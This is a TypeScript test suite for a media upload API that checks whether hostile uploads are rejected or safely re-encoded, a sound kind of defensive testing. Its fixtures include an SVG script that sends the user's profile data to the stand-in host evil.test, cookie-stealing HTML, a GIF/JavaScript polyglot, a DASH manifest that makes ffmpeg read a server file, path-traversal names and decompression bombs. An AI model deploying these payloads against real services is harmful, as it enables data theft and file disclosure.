import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { fetchFile, traces, upload } from '../../../../test/support/media.js';
import {
  bombPng,
  jpegWithGps,
  liarPng,
  mp4Aac,
  png,
  recorderWebm,
  silentWebmVideo,
  video,
  zipBomb,
} from '../../../../test/support/media-files.js';
import { registerFounder } from '../../../../test/support/people.js';
import { startTestServer, type TestServer } from '../../../../test/support/test-server.js';

let server: TestServer;
let work: string;
let token: string;

beforeAll(async () => {
  // Every case is one upload of one person: the upload limit is media-limits.test.ts's.
  server = await startTestServer({ RATE_LIMIT_FACTOR: '20' });
  work = await mkdtemp(join(tmpdir(), 'doers-hostile-'));
  token = (await registerFounder(server)).auth.tokens.accessToken;
});
afterAll(async () => {
  await server.close();
  await rm(work, { recursive: true, force: true });
});

type Attempt = {
  bytes: Buffer;
  purpose?: string;
  filename?: string;
  type?: string;
  field?: string;
  extraFile?: boolean;
};

const svgWithScript = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' +
    '<script>fetch("/api/users/me").then(r=>r.text()).then(t=>fetch("//evil.test/?"+t))</script>' +
    '<rect width="10" height="10"/></svg>',
);
const html = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script>');
// Starts as a GIF, runs as JavaScript: the classic polyglot that fooled type checks by header.
const gifJs = Buffer.from('GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//');

async function truncated(bytes: Buffer): Promise<Buffer> {
  return bytes.subarray(0, Math.floor(bytes.length / 2));
}

/**
 * The hostile set: each upload is refused with a clear 4xx naming the rule, and leaves no row,
 * no stored object and no temp file behind.
 */
const hostile: [string, () => Promise<Attempt>, number, RegExp][] = [
  [
    // Its first bytes say QuickTime; guessing from the whole file, ffmpeg would open it as a DASH
    // manifest and read the file it names: someone else's voice note, as this person's upload.
    'a DASH manifest dressed as QuickTime, naming a file on the server',
    async () => {
      const secret = await mp4Aac(work, 2);
      return {
        bytes: Buffer.from(
          '<!--wide--><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" ' +
            'profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" ' +
            'mediaPresentationDuration="PT2S" minBufferTime="PT1S"><Period>' +
            '<AdaptationSet mimeType="audio/mp4"><Representation id="a" bandwidth="64000" ' +
            `codecs="mp4a.40.2"><BaseURL>file://${secret}</BaseURL></Representation>` +
            '</AdaptationSet></Period></MPD>',
        ),
        filename: 'voice.mov',
      };
    },
    422,
    /could not be read/,
  ],
  [
    'an SVG with a script, sent as an image',
    async () => ({ bytes: svgWithScript, filename: 'cat.svg', type: 'image/svg+xml' }),
    415,
    /not taken/,
  ],
  [
    'an SVG as a profile picture',
    async () => ({ bytes: svgWithScript, purpose: 'avatar', filename: 'me.svg' }),
    415,
    /profile picture must be a JPEG, PNG/,
  ],
  [
    'HTML renamed .jpg with an image content type',
    async () => ({ bytes: html, filename: 'photo.jpg', type: 'image/jpeg' }),
    415,
    /not taken/,
  ],
  [
    'a GIF/JavaScript polyglot',
    async () => ({ bytes: gifJs, filename: 'x.gif', type: 'image/gif' }),
    422,
    /could not be read/,
  ],
  [
    'a pixel flood: a real 8192×8193 PNG',
    async () => ({ bytes: bombPng(8192, 8193), filename: 'flood.png' }),
    422,
    /Photos can be at most 8192 × 8192 pixels/,
  ],
  [
    'a PNG claiming 50000×50000 pixels in a few bytes',
    async () => ({ bytes: liarPng(50_000, 50_000) }),
    422,
    /Photos can be at most 8192 × 8192 pixels/,
  ],
  [
    'a decompression bomb: 100 KB of PNG that inflates to 160 MB',
    async () => ({ bytes: bombPng(16_000, 10_000) }),
    422,
    /Photos can be at most 8192 × 8192 pixels/,
  ],
  ['a zip bomb', async () => ({ bytes: zipBomb(), filename: 'bomb.jpg' }), 415, /not taken/],
  [
    'HTML named ../../../tmp/evil.html',
    async () => ({ bytes: html, filename: '../../../tmp/doers-evil.html', type: 'text/html' }),
    415,
    /not taken/,
  ],
  [
    'a truncated JPEG',
    async () => ({ bytes: await truncated(await jpegWithGps(800, 600)), filename: 'cut.jpg' }),
    422,
    /photo could not be read/,
  ],
  [
    'a truncated MP4 video (its index never arrived)',
    async () => ({
      bytes: await truncated(await readFile(await video(work, 3, 'mp4', 'cut.mp4'))),
    }),
    422,
    /could not be read/,
  ],
  [
    'a voice intro over its 60 seconds',
    async () => ({
      bytes: await readFile(await recorderWebm(work, 64, 'intro.webm')),
      purpose: 'voice-intro',
    }),
    422,
    /^Voice notes can be at most 60 seconds$/,
  ],
  [
    'a video over 60 seconds',
    async () => ({ bytes: await readFile(await video(work, 61.5, 'mp4', 'long.mp4')) }),
    422,
    /^Videos can be at most 60 seconds$/,
  ],
  [
    'a voice note of a fifth of a second',
    async () => ({
      bytes: await readFile(await recorderWebm(work, 0.2, 'blip.webm')),
      purpose: 'dm',
    }),
    422,
    /at least half a second/,
  ],
  ['a 0-byte file', async () => ({ bytes: Buffer.alloc(0) }), 400, /^The file is empty$/],
  [
    'the file in the wrong form field',
    async () => ({ bytes: await png(20, 20), field: 'photo' }),
    400,
    /form field "file", not "photo"/,
  ],
  [
    'two files in one upload',
    async () => ({ bytes: await png(20, 20), extraFile: true }),
    400,
    /^Send one file per upload$/,
  ],
  [
    'a photo over 16 MB (a JPEG padded to 17 MB)',
    async () => ({
      bytes: Buffer.concat([await jpegWithGps(100, 100), Buffer.alloc(17 * 1024 * 1024)]),
    }),
    413,
    /^Photos can be at most 16 MB$/,
  ],
  [
    'a profile picture cut off at 16 MB while it streams in',
    async () => ({ bytes: Buffer.alloc(20 * 1024 * 1024, 7), purpose: 'avatar' }),
    413,
    /^Photos can be at most 16 MB$/,
  ],
  [
    'a video as a comment',
    async () => ({
      bytes: await readFile(await video(work, 2, 'mp4', 'c.mp4')),
      purpose: 'comment',
    }),
    415,
    /^Comments take voice notes only$/,
  ],
  [
    'a silent WebM video as a message (WebM says video/webm either way)',
    async () => ({ bytes: await readFile(await silentWebmVideo(work, 2)), purpose: 'dm' }),
    415,
    /^Messages take voice notes only$/,
  ],
  [
    'a photo as a voice intro',
    async () => ({ bytes: await png(30, 30), purpose: 'voice-intro' }),
    415,
    /^A voice intro must be a voice note$/,
  ],
  [
    'a voice note as a profile picture',
    async () => ({
      bytes: await readFile(await recorderWebm(work, 2, 'v.webm')),
      purpose: 'avatar',
    }),
    415,
    /^A profile picture must be a photo$/,
  ],
  [
    'an unknown purpose',
    async () => ({ bytes: await png(20, 20), purpose: 'banner' }),
    400,
    /purpose must be one of/,
  ],
  [
    'a Linux executable named voice.webm',
    async () => ({
      bytes: Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(2000, 1)]),
      filename: 'voice.webm',
      type: 'audio/webm',
    }),
    415,
    /not taken/,
  ],
  [
    'a PDF',
    async () => ({ bytes: Buffer.from('%PDF-1.7\n1 0 obj <</Type/Catalog>> endobj\n%%EOF') }),
    415,
    /not taken/,
  ],
  [
    'a HEIC photo (HEVC, which this server cannot decode)',
    async () => ({
      bytes: Buffer.concat([
        Buffer.from([0, 0, 0, 0x18]),
        Buffer.from('ftypheic\0\0\0\0mif1heic'),
        Buffer.alloc(500, 3),
      ]),
    }),
    415,
    /HEIC photos cannot be read here/,
  ],
];

describe('the hostile set', () => {
  afterEach(async () => {
    expect(await traces(server)).toEqual({ rows: 0, stored: 0, temp: 0, resumable: 0 });
  });

  it.each(hostile)(
    'refuses %s',
    async (_name, make, status, message) => {
      const attempt = await make();
      const res = await upload(server, token, attempt.purpose ?? 'post', attempt.bytes, attempt);
      expect(res.status, JSON.stringify(res.body)).toBe(status);
      expect(res.body.message).toMatch(message);
      expect(existsSync('/tmp/doers-evil.html')).toBe(false);
      // Making the long clips takes a while on a busy machine.
    },
    90_000,
  );

  it('refuses a body that is not multipart, and an upload without a token', async () => {
    const json = await server.request<{ message: string }>('POST', '/api/media?purpose=post', {
      token,
      body: { file: 'aGVsbG8=' },
    });
    expect(json.status).toBe(415);
    expect(json.body.message).toMatch(/multipart\/form-data/);
    expect((await upload(server, 'not-a-token', 'post', await png(10, 10))).status).toBe(401);
  });

  it('has at least 20 cases', () => {
    expect(hostile.length).toBeGreaterThanOrEqual(20);
  });
});

describe('hostile but harmless once re-encoded', () => {
  it('a JPEG with HTML after its end is stored as a clean JPEG, without the HTML', async () => {
    const polyglot = Buffer.concat([await jpegWithGps(200, 100), html]);
    const res = await upload(server, token, 'post', polyglot, { filename: 'x.html' });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const file = await fetchFile(server, res.body.url);
    expect(file.headers.get('content-type')).toBe('image/jpeg');
    expect(file.bytes.includes('<script')).toBe(false);
    expect((await sharp(file.bytes).metadata()).format).toBe('jpeg');
    await server.request('DELETE', `/api/media/${res.body.id}`, { token });
  });

  it('a name full of ../ changes nothing: the file is stored under its own id', async () => {
    const res = await upload(server, token, 'post', await png(40, 40), {
      filename: '../../../../tmp/doers-escape.png',
    });
    expect(res.status).toBe(201);
    expect(existsSync('/tmp/doers-escape.png')).toBe(false);
    expect(existsSync(join(server.dataDir, 'doers-escape.png'))).toBe(false);
    await server.request('DELETE', `/api/media/${res.body.id}`, { token });
  });
});
